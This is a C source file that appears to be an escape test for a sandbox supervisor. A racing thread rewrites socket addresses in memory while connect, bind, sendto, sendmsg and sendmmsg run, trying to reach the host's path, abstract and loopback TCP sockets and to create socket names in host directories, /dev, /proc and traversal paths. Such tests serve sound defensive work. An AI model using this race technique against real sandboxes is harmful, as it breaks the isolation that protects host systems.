// Reaches the host's sockets: addresses are rewritten while connect, bind, sendto, sendmsg and sendmmsg are on their way.
// natively: escapes
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>

union address {
  struct sockaddr any;
  struct sockaddr_un local;
  struct sockaddr_in inet;
};
static union address target;

static void greeted(int s, const char *how) {
  char bytes[8];
  struct timeval wait = {0, 20000};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
  if (recv(s, bytes, sizeof bytes, 0) == 6 && !memcmp(bytes, "canary", 6)) escaped("%s", how);
}

static void try_connect(const char *how, union address *own, union address *foreign, socklen_t length) {
  struct racer racer;
  start_race(&racer, &target, own, foreign, sizeof target);
  for (double end = now() + patience() / 2; now() < end;) {
    int s = socket(own->any.sa_family, SOCK_STREAM, 0);
    if (connect(s, &target.any, length) == 0) greeted(s, how);
    close(s);
  }
  end_race(&racer);
}

int main(void) {
  union address own = {.local = {AF_UNIX, "own.socket"}}, other;
  int listener = socket(AF_UNIX, SOCK_STREAM, 0);
  NEEDS(bind(listener, &own.any, sizeof own.local) == 0 && listen(listener, 1) == 0);
  // Full at once: a connection to it waits or fails, which is all the same here.
  fcntl(listener, F_SETFL, O_NONBLOCK);

  other = (union address){.local = {AF_UNIX, ""}};
  snprintf(other.local.sun_path, sizeof other.local.sun_path, "%s", outside("socket"));
  struct timeval wait = {0, 1000};
  int probe = socket(AF_UNIX, SOCK_STREAM, 0);
  setsockopt(probe, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof wait);
  if (connect(probe, &other.any, sizeof other.local) == 0) greeted(probe, "the host's socket by its path");
  close(probe);
  union address source = {.local = {AF_UNIX, ""}};
  snprintf(source.local.sun_path, sizeof source.local.sun_path, "%s", given("ATTACK_SOURCE_SOCKET"));
  probe = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(probe, &source.any, sizeof source.local) == 0) greeted(probe, "the host's socket in the source");
  close(probe);
  union address abstract = {.local = {AF_UNIX, ""}};
  snprintf(abstract.local.sun_path + 1, 100, "%s", given("ATTACK_ABSTRACT"));
  socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(given("ATTACK_ABSTRACT"));
  probe = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(probe, &abstract.any, length) == 0) greeted(probe, "the host's abstract socket");
  close(probe);
  union address port = {.inet = {AF_INET, htons(number("ATTACK_PORT")), {htonl(INADDR_LOOPBACK)}, {0}}};
  union address elsewhere = {.inet = {AF_INET, htons(9), {htonl(INADDR_LOOPBACK)}, {0}}};

  // Connections to what nobody listens at, so that the race is all that there is to wait for.
  union address nobody = {.local = {AF_UNIX, "data/hello.txt"}};
  try_connect("connect, path", &nobody, &other, sizeof other.local);
  try_connect("connect, path in a source", &nobody, &source, sizeof source.local);
  try_connect("connect, abstract", &nobody, &abstract, length);
  try_connect("connect, TCP", &elsewhere, &port, sizeof port.inet);

  // Datagrams: the address is in a structure in memory, which is in another.
  struct racer racer;
  start_race(&racer, &target, &elsewhere, &port, sizeof target);
  for (double end = now() + patience() / 2; now() < end;) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct iovec iov = {"x", 1};
    struct msghdr message = {.msg_name = &target, .msg_namelen = sizeof target.inet, .msg_iov = &iov, .msg_iovlen = 1};
    struct mmsghdr several = {message, 0};
    sendto(s, "x", 1, 0, &target.any, sizeof target.inet);
    sendmsg(s, &message, 0);
    sendmmsg(s, &several, 1, 0);
    char bytes[8];
    if (recv(s, bytes, sizeof bytes, MSG_DONTWAIT) == 6 && bytes[0] == 'c') escaped("a datagram");
    close(s);
  }
  end_race(&racer);

  if (is_native()) return verdict();
  // A name in a directory of the host's, or at a place where the supervisor wants one of its own.
  const char *places[] = {outside("empty/made"), "data/dir/new", "/usr/made", "/dev/made", "/proc/made", "../../../../made"};
  for (unsigned i = 0; i < 6; i++) {
    union address there = {.local = {AF_UNIX, ""}};
    strncpy(there.local.sun_path, places[i], sizeof there.local.sun_path - 1);
    start_race(&racer, &target, &own, &there, sizeof target);
    for (double end = now() + patience() / 6; now() < end;) {
      int s = socket(AF_UNIX, SOCK_STREAM, 0);
      bind(s, &target.any, sizeof target.local);
      close(s);
      unlink("own.socket");
    }
    end_race(&racer);
  }
  // A raced name may be in the way of the next that is made there, but not for long.
  NEEDS(unlink("data/dir/new") == 0 || errno == ENOENT);
  NEEDS(mkdir("data/dir/new", 0755) == 0 && chdir("data/dir/new") == 0);
  return verdict();
}
